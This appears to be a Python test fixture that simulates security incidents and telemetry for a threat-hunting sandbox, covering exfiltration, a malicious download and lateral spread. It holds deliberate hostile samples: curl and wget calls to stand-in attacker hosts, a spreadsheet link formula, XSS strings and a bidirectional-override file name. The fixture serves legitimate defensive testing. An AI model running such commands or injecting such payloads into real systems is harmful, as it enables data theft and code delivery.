"""
Incidents of a single step or two, which show what becomes of one: found, silent, merged, harmless, spread, Sentinel's own.

Several hold what would harm a careless reader: markup, a link, a spreadsheet formula, a bidirectional override, a password,
a token.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from sandbox.telemetry.rows import connected, ran, wrote
from sandbox.tenant.evidence import device, file, incident, ip, process, url

from .intrusion import Intrusion

DROP_ADDRESS = "203.0.113.9"
LURE_URL = "https://updates.evil.example/kit/setup.sh"
STAGE_SHA1 = "3395856ce81f2b7382dee72602f798b642f14140"
RELAY_ADDRESS = "203.0.113.77"

# Rows and evidence read best one per line.
# fmt: off


def exfiltration(end: datetime) -> Intrusion:
    """A server archives its finance share and uploads it 12 minutes later; its neighbour only seems to."""
    srv, other, drop = "srv-7.contoso.com", "srv-3.contoso.com", "drop.evil.example"
    at = end - timedelta(hours=2)
    upload = at + timedelta(minutes=12)
    tar = f'tar -czf "/tmp/[Q3 report](https://{drop}/q3).tgz" /srv/finance'
    curl = (
        "curl -sS -H 'Authorization: Bearer not-a-real-token-0123456789abcdef' --password=Winter2024! "
        f"-F 'file=@/tmp/q3.tgz' https://{drop}/u?<script>alert(1)</script>"
    )
    beacon = f'=HYPERLINK("https://{drop}/a","open")'
    return Intrusion(
        "exfiltration",
        incident(
            4101, "Archive of /srv/finance uploaded from srv-7", "high", "Exfiltration", at, upload,
            device(srv),
            ip(DROP_ADDRESS, "malicious"),
            process(srv, at, "tar", tar, "svc-backup"),
            file(srv, "/tmp/", ".stage.sh", STAGE_SHA1, "suspicious"),
            url(f"https://{drop}/u", "malicious"),
        ),
        [
            wrote(srv, at, "/tmp/", ".stage.sh", STAGE_SHA1, f"https://{drop}/.stage.sh", "", DROP_ADDRESS),
            ran(srv, at, "tar", tar, "svc-backup"),
            connected(srv, upload, "curl", curl, "svc-backup", DROP_ADDRESS, drop),
            connected(srv, at + timedelta(minutes=50), "perl", beacon, "svc-backup", DROP_ADDRESS, drop),
            # Must not be found: an upload that stays on the machine, and one that comes a minute too late.
            ran(other, at, "tar", "tar -czf /var/backups/etc.tgz /etc", "root"),
            connected(other, at + timedelta(minutes=5), "curl", "curl -s localhost", "root", "127.0.0.1"),
            connected(other, at + timedelta(minutes=31), "curl", "curl -T etc.tgz", "root", "198.51.100.77"),
        ],
    )


def download(end: datetime) -> Intrusion:
    """A desktop's browser saves a script whose name reads backwards; Python then calls a rare address."""
    wks, folder, name = "wks-012.contoso.com", "/home/user35/Downloads/", "invoice\u202efdp.sh"
    sha1, address = "9f2c1d6a5b8e4f7091a2b3c4d5e6f708192a3b4c", "203.0.113.44"
    snapd = "/usr/lib/snapd/snapd"
    at = end - timedelta(minutes=90)
    later = at + timedelta(minutes=7)
    command = "python3 -c \"import os;os.system('id')#<img src=x onerror=alert(1)>\" --token=not-real"
    return Intrusion(
        "download",
        incident(
            4102, "Suspicious script downloaded on wks-012", "medium", "CommandAndControl", at, later,
            device(wks),
            url(LURE_URL, "malicious"),
            ip(address, "suspicious"),
            file(wks, folder, name, sha1, "malicious"),
        ),
        [
            wrote(wks, at, folder, name, sha1, LURE_URL, "https://mail.contoso.com/owa/", "203.0.113.45"),
            connected(wks, later, "python3", command, "user35", address, "updates.evil.example"),
            # The hunts exclude snapd on a desktop, whatever it talks to.
            connected(wks, later, "snapd", snapd, "root", "203.0.113.46", "api.snaps.example"),
        ],
    )


def windows(end: datetime) -> Intrusion:
    """A Windows client fetched a file through a page of the same malicious site; no Linux hunt applies."""
    pc, site = "pc-002.contoso.com", "https://updates.evil.example/"
    origin = "https://files.example/setup.exe"
    folder, sha1 = "C:\\Users\\user9\\Downloads\\", "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
    at = end - timedelta(minutes=80)
    return Intrusion(
        "windows",
        incident(
            4103, "Malicious download on a Windows client", "medium", "InitialAccess", at, at,
            device(pc, "Windows11"),
            url(site, "malicious"),
        ),
        [wrote(pc, at, folder, "setup.exe", sha1, origin, f"{site}kit/", "203.0.113.45")],
    )


def silent(end: datetime) -> Intrusion:
    """A device known by name alone, that sends no telemetry at all."""
    at = end - timedelta(minutes=70)
    return Intrusion(
        "silent",
        incident(
            4104, "Sensor of srv-lost stopped reporting", "medium", "DefenseEvasion", at, at,
            {**device("srv-lost.contoso.com"), "mdeDeviceId": None},
        ),
    )


def merged(end: datetime) -> Intrusion:
    """Defender took this for an incident of its own, then merged it into the exfiltration."""
    at = end - timedelta(minutes=100)
    opened = incident(4105, "Connection to a rare address from srv-7", "low", "Exfiltration", at, at)
    return Intrusion("merged", {**opened, "status": "redirected", "redirectIncidentId": "4101", "alerts": []})


def benign(end: datetime) -> Intrusion:
    """Nothing of this was ever seen in the fleet."""
    at = end - timedelta(minutes=60)
    return Intrusion(
        "benign",
        incident(
            4106, "Scan reported by a partner", "low", "Reconnaissance", at, at,
            ip("203.0.113.200", "unknown"),
            ip("192.0.2.10", "clean"),
            url("https://nowhere.example/probe", "suspicious"),
        ),
    )


def spread(end: datetime) -> Intrusion:
    """One campaign on a server, a desktop and a Windows client."""
    srv, wks, pc = "srv-2.contoso.com", "wks-003.contoso.com", "pc-001.contoso.com"
    relay = "relay.evil.example"
    at = end - timedelta(minutes=50)
    command = f"wget -q https://{relay}/x -O /tmp/.x"
    return Intrusion(
        "spread",
        incident(
            4107, "One tool on three devices", "high", "LateralMovement", at, at + timedelta(minutes=20),
            device(srv),
            device(wks),
            device(pc, "Windows11"),
            ip(RELAY_ADDRESS, "malicious"),
            url(f"https://{relay}/x", "malicious"),
        ),
        [connected(on, at, "wget", command, "svc-deploy", RELAY_ADDRESS, relay) for on in (srv, wks, pc)],
    )


def analytics(end: datetime) -> Intrusion:
    """A rule of Sentinel's own saw the campaign in a proxy's log; Defender has no such incident."""
    srv = "srv-2.contoso.com"
    at = end - timedelta(minutes=45)
    seen = incident(
        812, "Proxy saw a server call a listed address", "medium", "CommandAndControl", at, at,
        device(srv),
        ip(RELAY_ADDRESS, "malicious"),
        url("https://relay.evil.example/x", "malicious"),
        file(srv, "/tmp/", ".stage.sh", STAGE_SHA1, "suspicious"),
    )
    seen["alerts"][0]["serviceSource"] = "microsoftSentinel"
    return Intrusion("analytics", seen, standalone=True)
